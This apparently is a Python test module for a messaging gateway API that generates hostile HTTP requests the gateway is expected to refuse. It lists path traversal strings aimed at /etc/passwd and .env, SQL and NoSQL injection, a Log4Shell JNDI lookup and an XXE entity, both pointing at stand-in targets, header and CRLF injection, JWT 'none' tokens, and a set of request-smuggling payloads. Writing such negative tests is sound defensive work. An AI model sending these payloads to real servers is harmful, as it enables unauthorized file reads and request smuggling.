"""Bad requests by the bytes that an attacker would send. Every one of them must be refused, and tell nothing."""

import gzip
import json
from collections.abc import Iterator
from itertools import product

from tests.frontend.gateway import CLIENT_TOKEN, PARTNER_TOKEN

UNKNOWN = "0123456789ABCDEF0123456789ABCDEF"

TRAVERSALS = (
    "../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..;/..;/admin",
    "....//....//etc",
    "..%252f..%252fetc",
    "..%c0%af..%c0%afetc",
    "..\\..\\windows",
    "%00",
    "a%00.png",
    "%0d%0aX-Injected:%201",
    "~root",
    "file:///etc/passwd",
    "//evil.example/x",
    ".git/config",
    ".env",
    "%ff%fe",
    "%e2%80%ae",
    "%F0%9F%92%A3",
    "'--",
    "%27%20OR%201=1--",
    "${jndi:ldap://evil.example/a}".replace("{", "%7B").replace("}", "%7D"),
    "%7B%7B7*7%7D%7D",
    "a" * 9000,
    "/" * 4000,
)

METHODS = (
    "TRACE",
    "CONNECT",
    "OPTIONS",
    "PATCH",
    "PUT",
    "DELETE",
    "HEAD",
    "PROPFIND",
    "SEARCH",
    "LOCK",
    "MKCOL",
    "PURGE",
    "get",
    "G\x00ET",
    "GETGETGET",
    "\u20ac",
)

TOKENS = (
    "",
    " ",
    "null",
    "undefined",
    "true",
    "0",
    "*",
    "%",
    "_",
    "' OR '1'='1",
    "\x00",
    "Bearer",
    "Basic YWRtaW46YWRtaW4=",
    "Bearer ",
    "Bearer null",
    "Bearer  " + CLIENT_TOKEN,
    CLIENT_TOKEN[:-1],
    CLIENT_TOKEN + "x",
    CLIENT_TOKEN.upper(),
    PARTNER_TOKEN,
    "Bearer " + "a" * 8000,
    "bearer\t" + PARTNER_TOKEN[:-1],
    "Token " + PARTNER_TOKEN,
    "eyJhbGciOiJub25lIn0.e30.",
)

JSON_BODIES: tuple[bytes, ...] = (
    b"",
    b"{",
    b"[",
    b"null",
    b"true",
    b"0",
    b'"x"',
    b"[]",
    b"{}",
    b"{{}}",
    b"{'a':1}",
    b'{"a":}',
    b'{"a":1,}',
    b"nan",
    b"[" * 100_000,
    b"[" * 100_000 + b"]" * 100_000,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    b'{"phone":"5511988887777","message":' + b"9" * 5000 + b"}",
    b'{"phone":1e999,"message":"x"}',
    b'{"phone":NaN,"message":"x"}',
    b'{"phone":"5511988887777","message":"\\u0000"}',
    b'{"phone":"5511988887777","message":"\\ud800"}',
    b'{"phone":"5511988887777","message":"\xff\xfe"}',
    b'\xef\xbb\xbf{"phone":"5511988887777"}',
    '{"phone":"5511"}'.encode("utf-16"),
    b'{"phone":"5511988887777\\r\\nX: 1","message":"x"}',
    b'{"phone":{"$gt":""},"message":"x"}',
    b'{"phone":["a"],"message":{}}',
    b'{"__proto__":{"admin":true}}',
    b'{"phone":"' + b"1" * 100_000 + b'","message":"x"}',
    b'{"phone":"","message":""}',
    b'{"phone":"5511988887777","message":"x","delayMessage":-1}',
    b'{"phone":"5511988887777","message":"x","delayMessage":1e308}',
    b'{"phone":"5511988887777","message":"x","scheduledFor":"9999-99-99"}',
    b'{"phone":"5511988887777","message":"x","expiresAt":"-292277022657-01-27T08:29:52Z"}',
    b'{"phone":"../../etc/passwd","message":"x"}',
    b'{"phone":"status@broadcast\\n","message":"x"}',
    b'<?xml version="1.0"?><a/>',
    b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    b"phone=1&message=2",
    gzip.compress(b"{}" * 100),
)

SENDS = ("send-text", "send-poll", "send-button-list")

HEADERS = (
    "Content-Type: text/plain",
    "Content-Type: application/xml",
    "Content-Type: application/json\x00",
    "Content-Encoding: gzip",
    "Content-Encoding: br, gzip",
    "Content-Length: -1",
    "Content-Length: +2",
    "Content-Length: 0x2",
    "Content-Length: 2, 2",
    "Content-Length: 99999999999999999999",
    "Content-Length: 99999999999",
    "Transfer-Encoding: gzip",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding : chunked",
    "Idempotency-Key: " + "k" * 300,
    "Idempotency-Key: \x7f",
    "Idempotency-Key: a b",
    "Upgrade: websocket\r\nConnection: Upgrade",
    "Upgrade: h2c\r\nConnection: Upgrade",
    "Expect: 200-ok",
    "Bad Name: x",
    "X: a\rb",
    "X: a\x00b",
    ": empty",
    "X" * 70_000 + ": y",
    "X: " + "y" * 70_000,
    "Host: evil.example\r\nHost: other",
    "X-Forwarded-For: 127.0.0.1\r\nX-Original-URL: /nodes",
    "X-HTTP-Method-Override: DELETE",
    "\r\n".join(f"X-{n}: y" for n in range(3000)),
)


def smuggles(path: str) -> Iterator[bytes]:
    """Requests whose length two servers could read differently, each with a hidden one behind it."""
    hidden = b"GET /nodes HTTP/1.1\r\nHost: x\r\n\r\n"
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n".encode()
    yield head + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden
    yield head + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + hidden
    yield head + b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + hidden
    yield head + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + hidden
    yield head + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n" + hidden
    yield head + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + hidden
    yield head + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n\r\n" + hidden
    yield head + b"Transfer-Encoding: chunked\r\n\r\n0x2\r\n{}\r\n0\r\n\r\n" + hidden
    yield head + b"Transfer-Encoding: chunked\r\n\r\n2;" + b"e" * 70_000 + b"\r\n{}\r\n0\r\n\r\n"
    yield head.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden
    yield head + b" Content-Length: 4\r\n\r\n" + hidden
    yield b"\r\n\r\n\r\n" + head + b"\r\n"
    yield b"GET /instances HTTP/1.1\nHost: x\n\n"
    yield b"GET /instances HTTP/9.9\r\n\r\n"
    yield b"GET /instances\r\n\r\n"
    yield b"GET http://evil.example/nodes HTTP/1.1\r\nHost: x\r\n\r\n"
    yield b"GET /inst\xe9nces HTTP/1.1\r\nHost: x\r\n\r\n"
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200)
    yield bytes(range(256)) * 20
    yield b"SSH-2.0-x\r\n"
    yield b"A" * 200_000


def request(method: str, path: str, *headers: str, body: bytes = b"") -> bytes:
    length = () if any("content-length" in one.lower() or "transfer-enc" in one.lower() for one in headers) else (
        f"Content-Length: {len(body)}",
    )  # fmt: skip
    lines = [f"{method} {path} HTTP/1.1", "Host: x", *headers, *length, "", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + body


def attacks(base: str, id: str) -> Iterator[tuple[str, bytes]]:
    """`base` is the path of a connected instance with the right token. Each attack with a name."""
    client, kind = f"Client-Token: {CLIENT_TOKEN}", "Content-Type: application/json"
    good = json.dumps({"phone": "5511988887777", "message": "x"}).encode()
    for path in TRAVERSALS:
        short = path[:24]
        yield f"path {short}", request("GET", f"/{path}", client)
        yield f"media {short}", request("GET", f"/media/{path}", client)
        yield f"below {short}", request("GET", f"{base}/{path}", client)
        yield f"id {short}", request("GET", f"/instances/{path}/token/x/status", client)
        yield f"token {short}", request("POST", f"/instances/{id}/token/{path}/send-text", client, kind, body=good)
        yield f"message {short}", request("GET", f"{base}/queue/{path}", client)
    for method in METHODS:
        yield f"method {method!r}", request(method, f"{base}/send-text", client, kind, body=good)
        yield f"method {method!r} at the root", request(method, "/instances", client)
    for token in TOKENS:
        if token == CLIENT_TOKEN:
            continue
        yield (
            f"client token {token[:24]!r}",
            request("POST", f"{base}/send-text", f"Client-Token: {token}", kind, body=good),
        )
        if token != f"Bearer {PARTNER_TOKEN}":
            for path in ("/instances", "/nodes", "/audit"):
                yield f"{path} with {token[:24]!r}", request("GET", path, f"Authorization: {token}")
    for body, route in product(JSON_BODIES, SENDS):
        yield f"{route} {body[:24]!r}", request("POST", f"{base}/{route}", client, kind, body=body)
    for header in HEADERS:
        yield f"header {header[:32]!r}", request("POST", f"{base}/send-poll", client, header, body=b"{}")
    for number, raw in enumerate(smuggles(f"{base}/send-poll")):
        yield f"smuggle {number}", raw
    for query in (
        "page=-1",
        "page=1e9",
        "page=" + "9" * 400,
        "pageSize=0",
        "a=1&" * 100,
        "page=%00",
        "page[]=1",
        "query=" + "%25" * 2000,
    ):
        yield f"query {query[:24]}", request("GET", f"/instances?{query}", f"Authorization: Bearer {PARTNER_TOKEN}x")
        yield f"queue {query[:24]}", request("GET", f"{base}/dead-letters?{query}", client)
